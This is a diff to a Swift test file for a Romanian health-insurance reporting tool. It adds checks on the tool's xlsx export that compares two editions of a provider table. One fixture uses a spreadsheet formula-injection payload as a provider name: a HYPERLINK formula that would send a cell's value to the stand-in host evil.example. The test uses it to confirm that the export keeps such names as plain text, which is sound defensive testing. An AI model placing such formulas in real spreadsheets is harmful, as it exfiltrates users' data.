@@ -86,6 +86,41 @@ final class CompareEditionsTests: DatabaseTestCase {
         XCTAssertEqual(matches(#"<tr [^>]*data-cui="([^"]*)""#, in: html), [Fixture.cui])
         XCTAssertTrue(html.contains("CU ERORI</span></span><span class=\"sageata\" aria-hidden=\"true\">→</span>"), "before → after")
         XCTAssertTrue(html.contains("1 furnizor și-a schimbat situația."))
+
+        // The workbook, on standard output: the centralizer's conventions, read back.
+        let xlsx = try compare("xlsx", asOf: "2026-11-30T23:00:00+02:00")
+        XCTAssertEqual(Array(xlsx.stdoutBytes.prefix(2)), Array("PK".utf8), "a zip on standard output")
+        let path = folder.appendingPathComponent("comparatie.xlsx")
+        try xlsx.stdoutBytes.write(to: path)
+        let book = try XLSXBook(path.path)
+        XCTAssertEqual(book.sheetNames, ["Schimbări"])
+        let sheet = try book.sheet("Schimbări")
+        XCTAssertEqual(sheet.string("A1"), "Ce s-a schimbat în tabelul centralizator – Casa de Asigurări de Sănătate Timiș – luna octombrie 2026")
+        XCTAssertEqual(sheet.string("A2"), "Ediția din 14.11.2026 08:00 comparată cu situația la 30.11.2026 23:00 (ora României) · "
+                       + "1 furnizor și-a schimbat situația")
+        let core = try XLSXBook.part(path.path, "docProps/core.xml")
+        XCTAssertEqual(core.first("dc:title")?.text ?? core.first("title")?.text,
+                       "Schimbări în tabelul centralizator CAS Timiș, luna 2026-10, 14.11.2026 08:00 → 30.11.2026 23:00")
+        XCTAssertEqual(core.first("dc:creator")?.text ?? core.first("creator")?.text, "Casa de Asigurări de Sănătate Timiș")
+        XCTAssertEqual(sheet.rowStrings(3, columns: 10), csv.stdout.dropFirst().components(separatedBy: "\r\n")[0].components(separatedBy: ";"),
+                       "the CSV's columns, each edition named by its moment")
+        XCTAssertEqual(sheet.rowStrings(4, columns: 10),
+                       ["1.0", "31001235", "CMI Dr. Test 31001235", "CU ERORI", "3.0", "1.0", "VALIDAT", "3.0", "0.0", ""])
+        for ref in ["A4", "E4", "F4", "H4", "I4"] { XCTAssertNotNil(sheet.number(ref), "\(ref): counts are numbers") }
+        XCTAssertEqual(sheet.lastRow, 4, "the other provider did not change: not listed")
+        XCTAssertEqual(book.fill(ofStyle: sheet.style("D4")), "F8D7DA", "CU ERORI, the centralizer's colour")
+        XCTAssertEqual(book.fill(ofStyle: sheet.style("G4")), "D1E7DD", "VALIDAT, the centralizer's colour")
+        for stage in [Stage.cuErori, .validat] {
+            XCTAssertTrue(book.sharedStrings.contains(stage.rawValue))
+        }
+        XCTAssertEqual(book.fill(ofStyle: sheet.style("D4")), String(StagePalette.colours(.cuErori).fill, radix: 16).uppercased(), "one palette")
+        XCTAssertEqual(book.fill(ofStyle: sheet.style("G4")), String(StagePalette.colours(.validat).fill, radix: 16).uppercased(), "one palette")
+        let pane = try XCTUnwrap(sheet.pane, "no <pane>")
+        XCTAssertEqual(pane["state"], "frozen")
+        XCTAssertEqual(pane["ySplit"], "3", "the header row stays in view")
+        XCTAssertEqual(pane["topLeftCell"], "D4")
+        XCTAssertEqual(sheet.autoFilter, "A3:J4")
+        XCTAssertEqual(sheet.columnWidths.count, 10, "every column has a width")
     }
 
     func testTheComparisonFollowsTheAsOfSemantics() throws {
@@ -166,8 +201,7 @@ final class CompareEditionsTests: DatabaseTestCase {
             (["--compare-to", fourteenth, "--as-of", future], "este în viitor"),
             (["--compare-to", "2026-11-14 08:00"], "--compare-to 2026-11-14 08:00: se așteaptă o dată ISO 8601 cu fus orar"),
             (["--compare-to", fourteenth, "--as-of", "ieri"], "--as-of ieri: se așteaptă o dată ISO 8601"),
-            (["--compare-to", fourteenth, "--format", "xlsx"], "--compare-to nu are formatul xlsx: disponibile json, html, csv și text"),
-            (["--compare-to", fourteenth, "--format", "pdf"], "nu are formatul pdf"),
+            (["--compare-to", fourteenth, "--format", "pdf"], "--compare-to nu are formatul pdf: disponibile json, html, csv, text și xlsx"),
         ]
         for (args, expected) in cases {
             let out = folder.appendingPathComponent("nu-se-scrie.txt")
@@ -190,7 +224,8 @@ final class CompareEditionsTests: DatabaseTestCase {
             let out = folder.appendingPathComponent("comparatie.\(format)")
             let r = try ccm(["centralizer", "--luna", "2026-10", "--compare-to", fourteenth, "--format", format, "--output", out.path])
             XCTAssertEqual(r.status, 0, r.stderr)
-            let text = try String(contentsOf: out, encoding: .utf8)
+            let text = format == "xlsx" ? try XLSXBook(out.path).sharedStrings.joined(separator: "\n")
+                : try String(contentsOf: out, encoding: .utf8)
             XCTAssertTrue(text.contains(Fixture.cui), format)
             XCTAssertNil(text.range(of: "(?<![0-9])[0-9]{13}(?![0-9])", options: .regularExpression), "\(format): a 13-digit number")
             XCTAssertNil(text.range(of: "[0-9]\\*+[0-9]", options: .regularExpression), "\(format): a masked CNP")
@@ -228,6 +263,63 @@ final class CompareEditionsTests: DatabaseTestCase {
                        ["Nr. crt.", "CUI", "Denumire furnizor", "Stadiu procesare", "Nr. certificate raportate", "Nr. certificate cu erori", "Observații"])
         let empty = ComparisonHTML.render(EditionComparison(from: before, to: before))
         XCTAssertTrue(empty.contains("Nicio schimbare între cele două ediții."))
+    }
+
+    /// A provider shaped like a formula stays text; a provider in one edition only is said so, as in
+    /// the text and CSV; nothing changed is said too.
+    func testTheWorkbookKeepsFormulasAsTextAndSaysWhoIsInOneEditionOnly() throws {
+        let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"
+        func provider(_ cui: String, _ name: String) -> Provider {
+            Provider(cui: cui, denumire: name, casa: "TM", nrConventie: "CV-\(cui)", conventieDeLa: LocalDate("2026-10-01")!,
+                     conventiePanaLa: nil, email: nil, tip: .mf)
+        }
+        func month(_ p: Provider, certificates: Int = 0, errors: Int = 0) -> ProviderMonth {
+            ProviderMonth(provider: p, hasRegisteredInitial: certificates > 0, certificates: certificates, certificatesWithErrors: errors,
+                          errors: [], lastReport: nil, observations: [])
+        }
+        let house = HealthInsuranceHouse(code: "TM", fullName: "Casa de Asigurări de Sănătate Timiș", shortName: "CAS Timiș")
+        let luna = YearMonth("2026-10")!
+        let before = Centralizer(casa: "TM", luna: luna, asOf: at(fourteenth), months: [
+            month(provider("31001235", hyperlink), certificates: 2, errors: 1), month(provider("42005674", "@SUM(A1:A9)")),
+        ], house: house)
+        let after = Centralizer(casa: "TM", luna: luna, asOf: at("2026-11-30T23:00:00+02:00"), months: [
+            month(provider("31001235", hyperlink), certificates: 2), month(provider("18273645", "+Centrul Nou SRL")),
+        ], house: house)
+        let comparison = EditionComparison(from: before, to: after)
+        let path = folder.appendingPathComponent("schimbari.xlsx").path
+        try ComparisonXLSX.write(comparison, to: path)
+        let book = try XLSXBook(path)
+        let xml = try book.sheetXML("Schimbări")
+        XCTAssertEqual(xml.all("f").count, 0, "no formula in the sheet")
+        let sheet = try book.sheet("Schimbări")
+        let rows = (4...6).map { sheet.rowStrings($0, columns: 10) }
+        XCTAssertEqual(rows.map { $0[1] }, comparison.changes.map(\.cui), "the comparison's order")
+        for (row, ch) in zip(rows, comparison.changes) {
+            XCTAssertEqual(row[2], ch.denumire)
+            XCTAssertEqual(row[9], ComparisonWording.presence(ch, from: comparison.from) ?? "", "the wording of the text and CSV")
+        }
+        let nameCells = xml.all("c").filter { ($0.attrs["r"] ?? "").hasPrefix("C") && $0.attrs["r"] != "C3" }
+        XCTAssertEqual(nameCells.count, 3)
+        XCTAssertTrue(nameCells.allSatisfy { $0.attrs["t"] == "s" }, "names are string cells: \(nameCells.map(\.attrs))")
+        XCTAssertTrue(book.sharedStrings.contains(hyperlink))
+        let appeared = try XCTUnwrap(rows.first { $0[1] == "18273645" })
+        XCTAssertEqual(Array(appeared[3...8]), ["", "", "", "FĂRĂ RAPORTARE", "0.0", "0.0"], "no earlier side")
+        XCTAssertTrue(appeared[9].hasPrefix("apare în tabel: la ediția din 14.11.2026 08:00"), appeared[9])
+        let gone = try XCTUnwrap(rows.first { $0[1] == "42005674" })
+        XCTAssertEqual(Array(gone[3...8]), ["FĂRĂ RAPORTARE", "0.0", "0.0", "", "", ""], "no later side")
+        XCTAssertTrue(gone[9].hasPrefix("nu mai apare în tabel"), gone[9])
+        let changed = try XCTUnwrap(rows.firstIndex { $0[1] == "31001235" }) + 4
+        XCTAssertEqual(book.fill(ofStyle: sheet.style("D\(changed)")), "F8D7DA")
+        XCTAssertEqual(book.fill(ofStyle: sheet.style("G\(changed)")), "D1E7DD")
+        XCTAssertTrue(sheet.string("A2").hasSuffix("3 furnizori și-au schimbat situația"), sheet.string("A2"))
+
+        let emptyPath = folder.appendingPathComponent("nimic.xlsx").path
+        try ComparisonXLSX.write(EditionComparison(from: before, to: before), to: emptyPath)
+        let empty = try XLSXBook(emptyPath).sheet("Schimbări")
+        XCTAssertTrue(empty.string("A2").hasSuffix("Nicio schimbare"), empty.string("A2"))
+        XCTAssertEqual(empty.string("A4"), "Nicio schimbare între cele două ediții.")
+        XCTAssertEqual(empty.lastRow, 4)
+        XCTAssertEqual(empty.pane?["ySplit"], "3")
     }
 
     func matches(_ pattern: String, in text: String) -> [String] {
